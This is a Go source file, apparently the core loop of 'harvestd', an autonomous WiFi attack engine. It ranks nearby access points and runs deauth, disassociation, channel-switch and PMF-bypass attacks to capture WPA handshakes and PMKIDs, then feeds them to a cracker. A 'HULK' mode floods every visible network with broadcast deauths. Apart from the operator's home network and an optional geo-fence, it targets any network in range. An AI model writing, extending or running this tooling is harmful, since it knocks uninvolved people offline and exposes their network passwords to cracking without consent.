package engine

import (
	"context"
	"fmt"
	"log"
	"sort"
	"time"

	"go.opentelemetry.io/otel"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/trace"

	"github.com/corvid-labs/harvestd/internal/core/domain"
	"github.com/corvid-labs/harvestd/internal/core/services/bandit"
	"github.com/corvid-labs/harvestd/internal/core/services/crack"
	"github.com/corvid-labs/harvestd/internal/core/services/mood"
	"github.com/corvid-labs/harvestd/internal/core/services/orchestrator"
	"github.com/corvid-labs/harvestd/internal/core/services/registry"
	"github.com/corvid-labs/harvestd/internal/core/services/signal"
	"github.com/corvid-labs/harvestd/internal/geo"
)

const pollDeadline = 100 * time.Millisecond
const syncPeriod = 60 * time.Second
const persistEveryNEpochs = 10

var loopTracer = otel.Tracer("harvestd/engine")

// maxCandidatesPerChannel caps how many APs the loop hands the orchestrator
// per channel visit (§4.12 step 9: "cap at 3 strongest").
const maxCandidatesPerChannel = 3

// runOneEpoch implements the full §4.12 contract. It never returns an
// error: transient failures are swallowed as epoch misses, per the
// propagation policy (§7) that the only fatal startup conditions are the
// injector/session-source sockets.
func (e *Engine) runOneEpoch(ctx context.Context) {
	// Step 1: manual-mode gate.
	if e.isManual() {
		time.Sleep(500 * time.Millisecond)
		return
	}

	ctx, span := loopTracer.Start(ctx, "epoch", trace.WithAttributes(attribute.Int("epoch.num", e.epoch.Num)))
	defer span.End()

	now := e.Clock.Now()

	// Step 2: mode bandit re-evaluation.
	if e.ModeBandit.ShouldReevaluate(now) {
		e.ModeBandit.Select(now)
	}
	currentMode := e.ModeBandit.Current()
	level := orchestrator.StealthFromMode(currentMode)

	// Step 3: poll the session source; every ~60s do a full re-sync.
	e.pollSession(ctx, now)

	visibleChannels, apCounts := e.visibleChannels()
	totalAPs := 0
	for _, n := range apCounts {
		totalAPs += n
	}

	// Step 4: "no APs visible" gate. Increment the blind streak, escalate to
	// firmware recovery past the configured threshold, force mood LONELY,
	// kick idle cracking if due, and skip straight to the next epoch without
	// channel visits, bandit updates or the mood decision tree for this one.
	if totalAPs == 0 {
		e.epoch.Consecutive.BlindFor++
		if e.epoch.Consecutive.BlindFor >= e.cfg.MonMaxBlindEpochs {
			e.handleFirmwareBlindness()
		}
		e.mu.Lock()
		e.mood.Force(domain.MoodLonely, e.epoch.Num, now)
		e.mu.Unlock()
		e.driveCracking()
		e.epoch.Reset()
		time.Sleep(time.Duration(e.cfg.ReconTime) * time.Second)
		return
	}
	e.epoch.Consecutive.BlindFor = 0

	// Step 5: home/hotspot gate. Attacks pause; run the sync collaborator
	// when reachable and keep the cracker moving, then sleep and continue.
	if e.homeNetworkVisible() {
		if e.SyncClient != nil && e.SyncClient.Reachable(ctx) {
			if err := e.SyncClient.Sync(ctx, e.cfg.PcapDir); err != nil {
				log.Printf("engine: sync: %v", err)
			}
		}
		e.driveCracking()
		e.epoch.Reset()
		time.Sleep(time.Duration(e.cfg.ReconTime) * time.Second)
		return
	}

	// Step 6: geo-fence gate.
	if lat, lon, ok := e.currentLocation(); ok {
		fence := geo.Fence{Enabled: e.cfg.GeoFenceEnabled, Lat: e.cfg.GeoFenceLat, Lon: e.cfg.GeoFenceLon, RadiusM: e.cfg.GeoFenceRadiusM}
		if !fence.Contains(lat, lon) {
			e.epoch.Reset()
			time.Sleep(time.Duration(e.cfg.ReconTime) * time.Second)
			return
		}
	}

	// Step 7: channel ordering.
	ordered := e.ChannelBandit.SelectChannel(now, visibleChannels, apCounts)
	if len(e.cfg.Channels) > 0 {
		ordered = intersectOrdered(ordered, e.cfg.Channels)
	}

	preHandshakeBytes := e.totalHandshakeBytes

	// Steps 8-9: per-channel candidate gathering/registration/filtering/
	// dispatch.
	for _, ch := range ordered {
		e.visitChannel(ctx, ch, currentMode, level, now)
	}

	// Step 10: end-of-epoch handshake-bytes comparison, reward/penalty.
	grew := e.totalHandshakeBytes > preHandshakeBytes
	e.rewardEpochOutcome(grew, ordered)

	// Step 11: epoch advance with adaptive dwell timing.
	dwell := e.adaptiveDwell(totalAPs, grew)
	e.epoch.DwellTime = dwell

	// Step 12: mood update + HULK.
	e.updateMood(ctx, now)

	// Step 13: idle cracking dispatch.
	e.driveCracking()

	// Step 14: registry GC + interaction pruning.
	if e.epoch.Num%persistEveryNEpochs == 0 {
		e.Registry.GC(now)
		e.Throttle.PruneInteractions(now)
		if err := e.PersistState(); err != nil {
			log.Printf("engine: persist state: %v", err)
		}
	}

	if e.Events != nil {
		if err := e.Events.LogEpoch(ctx, e.epoch, e.mood.Snapshot(e.epoch.Num).Mood, now); err != nil {
			log.Printf("engine: log epoch event: %v", err)
		}
	}

	e.epoch.Next()
	time.Sleep(time.Duration(dwell * float64(time.Second)))
}

func (e *Engine) pollSession(ctx context.Context, now time.Time) {
	if e.Session == nil {
		e.epoch.Counters.NumMissed++
		return
	}
	events, err := e.Session.Poll(ctx, pollDeadline)
	if err != nil {
		e.epoch.Counters.NumMissed++
		return
	}
	for _, evt := range events {
		e.applyEvent(evt, now)
	}
	if e.Session.NeedsSync() {
		e.fullResync(ctx, now)
	}
}

func (e *Engine) applyEvent(evt domain.SessionEvent, now time.Time) {
	if evt.AP != nil {
		e.observeAP(*evt.AP, now)
	}
	if evt.STA != nil {
		e.observeSTA(*evt.STA, now)
	}
}

func (e *Engine) fullResync(ctx context.Context, now time.Time) {
	n, err := e.Session.APCount(ctx)
	if err != nil {
		return
	}
	for i := 0; i < n; i++ {
		ap, err := e.Session.AP(ctx, i)
		if err != nil {
			continue
		}
		e.observeAP(ap, now)
	}
	staN, err := e.Session.STACount(ctx)
	if err != nil {
		return
	}
	for i := 0; i < staN; i++ {
		sta, err := e.Session.STA(ctx, i)
		if err != nil {
			continue
		}
		e.observeSTA(sta, now)
	}
}

func (e *Engine) observeAP(obs domain.APObservation, now time.Time) {
	if e.cfg.FilterWeak && obs.RSSI < e.cfg.MinRSSI {
		return
	}
	ent, ok := e.Registry.GetOrCreate(obs.BSSID, domain.KindAP, now)
	if !ok {
		return // registry full
	}
	registry.Touch(ent, now)
	ent.SSID = obs.SSID
	ent.Encryption = obs.Encryption
	ent.VendorOUI = obs.Vendor
	ent.Channel = obs.Channel
	ent.BeaconInterval = obs.BeaconInterval
	ent.ClientsCount = obs.ClientsCount
	signal.Update(ent, obs.RSSI)
}

func (e *Engine) observeSTA(obs domain.STAObservation, now time.Time) {
	ent, ok := e.Registry.GetOrCreate(obs.MAC, domain.KindSTA, now)
	if !ok {
		return
	}
	registry.Touch(ent, now)
	ent.SSID = obs.APBSSID
	signal.Update(ent, obs.RSSI)
}

// homeNetworkVisible implements the §4.12 step 5 pause-on-home gate.
func (e *Engine) homeNetworkVisible() bool {
	if e.cfg.HomeSSID == "" && e.cfg.Home2SSID == "" {
		return false
	}
	var found bool
	e.Registry.ForEach(func(ent *domain.Entity) {
		if ent.Kind != domain.KindAP {
			return
		}
		switch ent.SSID {
		case e.cfg.HomeSSID:
			if ent.LastRSSI >= e.cfg.HomeMinRSSI {
				found = true
			}
		case e.cfg.Home2SSID:
			if ent.LastRSSI >= e.cfg.Home2MinRSSI {
				found = true
			}
		}
	})
	return found
}

func (e *Engine) currentLocation() (lat, lon float64, ok bool) {
	if e.GeoProvider == nil {
		return 0, 0, false
	}
	loc := e.GeoProvider.GetLocation()
	return loc.Latitude, loc.Longitude, true
}

func (e *Engine) visibleChannels() ([]int, map[int]int) {
	seen := make(map[int]bool)
	counts := make(map[int]int)
	var out []int
	e.Registry.ForEach(func(ent *domain.Entity) {
		if ent.Kind != domain.KindAP || ent.Channel == 0 {
			return
		}
		counts[ent.Channel]++
		if !seen[ent.Channel] {
			seen[ent.Channel] = true
			out = append(out, ent.Channel)
		}
	})
	sort.Ints(out)
	return out, counts
}

func intersectOrdered(ordered, allowed []int) []int {
	allow := make(map[int]bool, len(allowed))
	for _, c := range allowed {
		allow[c] = true
	}
	var out []int
	for _, c := range ordered {
		if allow[c] {
			out = append(out, c)
		}
	}
	return out
}

// visitChannel gathers candidates on ch, registers/filters/caps them, and
// dispatches each to the orchestrator (§4.12 steps 8-9).
func (e *Engine) visitChannel(ctx context.Context, ch int, currentMode bandit.Mode, level orchestrator.StealthLevel, now time.Time) {
	ctx, span := loopTracer.Start(ctx, "channel", trace.WithAttributes(attribute.Int("channel", ch)))
	defer span.End()

	e.ChannelBandit.Visit(ch, now, 0)
	if e.Session != nil {
		_ = e.Session.Command(ctx, fmt.Sprintf("wifi.recon.channel %d", ch))
	}
	e.epoch.Counters.NumHops++

	type cand struct {
		ent   *domain.Entity
		score float64
	}
	var cands []cand
	e.Registry.ForEach(func(ent *domain.Entity) {
		if ent.Kind != domain.KindAP || ent.Channel != ch {
			return
		}
		if !e.Throttle.ShouldInteract(ent.ID, now) {
			return
		}
		if e.Throttle.IsBlacklisted(ent.ID, now) {
			return
		}
		cands = append(cands, cand{ent, orchestrator.Priority(ent.LastRSSI, ent.ClientsCount)})
	})
	// Ties in raw priority break toward the entity with the more robust
	// (less erratic) RSSI trace, per the signal tracker's MAD-derived score.
	sort.Slice(cands, func(i, j int) bool {
		if cands[i].score != cands[j].score {
			return cands[i].score > cands[j].score
		}
		return cands[i].ent.Robustness > cands[j].ent.Robustness
	})
	if len(cands) > maxCandidatesPerChannel {
		cands = cands[:maxCandidatesPerChannel]
	}

	if currentMode == bandit.ModePassive {
		return // passive mode observes only, never dispatches attacks
	}

	var anyAttack bool
	for _, c := range cands {
		stas := e.stasFor(c.ent.ID)
		phase := e.PhaseBandit.SelectPhase(c.ent, c.ent.IsWPA3(), e.cfg.AttackPhaseEnabled)
		if err := e.Orchestrator.Attempt(ctx, orchestrator.Candidate{AP: c.ent, STAs: stas}, phase, level, e.epoch.Num); err != nil {
			e.epoch.Counters.NumMissed++
			continue
		}
		e.Throttle.RecordInteraction(c.ent.ID, now)
		if phase == bandit.PhaseTargetedDeauth || phase == bandit.PhaseDisassoc {
			e.epoch.Counters.NumDeauths++
			e.epoch.Flags.DidDeauth = true
			e.Throttle.TrackDeauth(c.ent.ID, now)
		}
		e.epoch.Flags.AnyActivity = true
		anyAttack = true
	}

	// §4.12 step 9: dwell hop_recon_time after this channel's visit if any
	// attack fired, on top of the epoch's overall adaptive dwell.
	if anyAttack {
		time.Sleep(time.Duration(e.cfg.HopReconTime * float64(time.Second)))
	}
}

func (e *Engine) stasFor(bssid string) []orchestrator.STA {
	var out []orchestrator.STA
	e.Registry.ForEach(func(ent *domain.Entity) {
		if ent.Kind == domain.KindSTA && ent.SSID == bssid {
			out = append(out, orchestrator.STA{MAC: ent.ID})
		}
	})
	if len(out) > 5 {
		out = out[:5]
	}
	return out
}

// rewardEpochOutcome implements §4.12 step 10: rewards the channel/mode
// bandits on net capture growth this epoch, and reconciles each attacked
// AP's phase posterior with a full-weight success if its handshake quality
// became FULL or PMKID since the epoch started.
func (e *Engine) rewardEpochOutcome(grew bool, visitedChannels []int) {
	now := e.Clock.Now()
	e.Registry.ForEach(func(ent *domain.Entity) {
		if ent.Kind != domain.KindAP || ent.LastAttacked.IsZero() {
			return
		}
		quality := e.Classifier.GetHandshakeQuality(now, ent.ID)
		if quality == domain.QualityFull || quality == domain.QualityPMKID {
			e.Throttle.MarkHandshake(ent.ID)
			e.epoch.Counters.NumShakes++
			if e.Events != nil {
				entry := domain.HandshakeCacheEntry{BSSID: ent.ID, SSID: ent.SSID, Quality: quality, AnalyzedAt: now}
				if err := e.Events.LogHandshake(context.Background(), entry); err != nil {
					log.Printf("engine: log handshake capture: %v", err)
				}
			}
			e.epoch.Flags.DidHandshake = true
			e.totalHandshakeBytes += 1500 // approximate capture growth per new handshake
			if tr, ok := e.Throttle.AttackTracker(ent.ID); ok {
				e.PhaseBandit.Observe(ent, tr.LastPhase, true)
			}
		}
	})
	for _, ch := range visitedChannels {
		e.ChannelBandit.Observe(ch, grew)
	}
	e.ModeBandit.Observe(e.ModeBandit.Current(), grew)
	if grew {
		e.ModeBandit.NoteHandshake()
	}
}

// mobility buckets how erratic the visible APs' RSSI traces are right now,
// used as a stand-in for the harvester's own physical movement: a radio in
// motion sees its neighbors' signal strength swing faster than a stationary
// one, which the per-entity EWMA/MAD robustness score (package signal)
// already tracks. Low average robustness (high MAD) reads as high mobility.
type mobility int

const (
	mobilityNone mobility = iota
	mobilityMedium
	mobilityHigh
)

const (
	mobilityHighRobustness   = 0.3
	mobilityMediumRobustness = 0.6
)

func (e *Engine) mobilityLevel() mobility {
	var sum float64
	var n int
	e.Registry.ForEach(func(ent *domain.Entity) {
		if ent.Kind != domain.KindAP || ent.RSSICount == 0 {
			return
		}
		sum += ent.Robustness
		n++
	})
	if n == 0 {
		return mobilityNone
	}
	avg := sum / float64(n)
	switch {
	case avg < mobilityHighRobustness:
		return mobilityHigh
	case avg < mobilityMediumRobustness:
		return mobilityMedium
	default:
		return mobilityNone
	}
}

// adaptiveDwell implements §4.12's adaptive dwell law: a base dwell bucketed
// by visible AP density (denser neighborhoods hop faster), scaled down by
// 2/3 on a recent handshake and further down under detected mobility, then
// nudged up for a stale run of inactive epochs, clamped to
// [MinReconTime, MaxReconTime].
func (e *Engine) adaptiveDwell(totalAPs int, grew bool) float64 {
	var base float64
	switch {
	case totalAPs > 20:
		base = 2
	case totalAPs > 10:
		base = 3
	case totalAPs > 5:
		base = 5
	case totalAPs > 0:
		base = 8
	default:
		base = 10
	}

	if grew {
		base *= 2.0 / 3.0
	}

	switch e.mobilityLevel() {
	case mobilityHigh:
		base *= 0.5
	case mobilityMedium:
		base *= 0.75
	}

	switch {
	case e.epoch.Consecutive.InactiveFor > 10:
		base += 3
	case e.epoch.Consecutive.InactiveFor > 5:
		base += 1
	}

	if base < e.cfg.MinReconTime {
		base = e.cfg.MinReconTime
	}
	if base > e.cfg.MaxReconTime {
		base = e.cfg.MaxReconTime
	}
	return base
}

// updateMood runs the mood FSM and fires HULK if indicated (§4.11).
func (e *Engine) updateMood(ctx context.Context, now time.Time) {
	e.mu.Lock()
	fi := e.frustrationInputs(now)
	allCaptured := fi.UncapturedEligibleAPs == 0
	res := e.mood.Evaluate(e.epoch, now, allCaptured, fi)
	e.mu.Unlock()

	if res.FireHulk {
		e.fireHulk(ctx, now)
	}
}

func (e *Engine) frustrationInputs(now time.Time) mood.FrustrationInputs {
	var fi mood.FrustrationInputs
	e.Registry.ForEach(func(ent *domain.Entity) {
		if ent.Kind != domain.KindAP {
			return
		}
		quality := e.Classifier.GetHandshakeQuality(now, ent.ID)
		if quality == domain.QualityFull || quality == domain.QualityPMKID {
			return
		}
		fi.UncapturedEligibleAPs++
		if ent.ClientsCount == 0 {
			fi.ZeroClientAPs++
		}
		if ent.IsWPA3() {
			fi.WPA3APs++
		}
		if ent.LastRSSI < e.cfg.MinRSSI+10 {
			fi.WeakSignalAPs++
		}
		if tr, ok := e.Throttle.AttackTracker(ent.ID); ok && tr.DeauthCount > 0 && !tr.GotHandshake {
			fi.DeauthsWithoutShakes = true
		}
	})
	return fi
}

// fireHulk implements §4.11's mass-broadcast escalation: three broadcast
// deauths with jitter, then per visible AP the full disruption sequence.
func (e *Engine) fireHulk(ctx context.Context, now time.Time) {
	for i := 0; i < 3; i++ {
		if e.Session != nil {
			_ = e.Session.Command(ctx, "wifi.deauth *")
		}
		time.Sleep(e.jitterRange(350, 650))
	}
	e.Registry.ForEach(func(ent *domain.Entity) {
		if ent.Kind != domain.KindAP {
			return
		}
		stas := e.stasFor(ent.ID)
		cand := orchestrator.Candidate{AP: ent, STAs: stas}
		_ = e.Orchestrator.Attempt(ctx, cand, bandit.PhaseTargetedDeauth, orchestrator.StealthAggressive, e.epoch.Num)
		_ = e.Orchestrator.Attempt(ctx, cand, bandit.PhaseCSA, orchestrator.StealthAggressive, e.epoch.Num)
		_ = e.Orchestrator.Attempt(ctx, cand, bandit.PhasePMFBypass, orchestrator.StealthAggressive, e.epoch.Num)
		_ = e.Orchestrator.Attempt(ctx, cand, bandit.PhaseDisassoc, orchestrator.StealthAggressive, e.epoch.Num)
		_ = e.Orchestrator.Attempt(ctx, cand, bandit.PhaseProbe, orchestrator.StealthAggressive, e.epoch.Num)
	})
}

// driveCracking implements §4.12 step 13: poll the running child if any,
// else start the next target.
func (e *Engine) driveCracking() {
	if e.Crack.State() == crack.StateRunning {
		e.Crack.Check()
		return
	}
	if t, ok := e.Crack.NextTarget(); ok {
		_ = e.Crack.Start(t)
	}
}

// handleFirmwareBlindness counts persistent blindness toward the §4.12
// step 4 firmware-recovery escalation. Recovery itself is an out-of-scope
// collaborator (ports.FirmwareRecovery); absent one, this only logs.
func (e *Engine) handleFirmwareBlindness() {
	e.firmwareBlindAttempts++
	log.Printf("engine: monitor interface blind for %d consecutive epochs (attempt %d)", e.epoch.Consecutive.BlindFor, e.firmwareBlindAttempts)
}

// jitterRange draws a uniformly distributed delay in [loMS, hiMS) from the
// engine's shared RNG, matching HULK's 350-650ms inter-broadcast jitter
// (§4.11).
func (e *Engine) jitterRange(loMS, hiMS float64) time.Duration {
	lo := time.Duration(loMS) * time.Millisecond
	hi := time.Duration(hiMS) * time.Millisecond
	return lo + time.Duration(e.RNG.Float64()*float64(hi-lo))
}
